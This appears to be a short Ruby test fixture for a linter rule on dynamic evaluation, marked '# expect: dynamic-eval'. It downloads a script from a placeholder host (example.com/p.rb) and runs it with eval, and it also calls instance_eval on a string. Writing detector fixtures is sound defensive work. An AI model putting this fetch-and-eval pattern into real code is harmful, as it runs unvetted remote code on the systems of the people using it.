#!/usr/bin/env ruby
require 'open-uri'
payload = URI.open('https://example.com/p.rb').read
eval(payload)  # expect: dynamic-eval
instance_eval "puts 1"
puts "done"
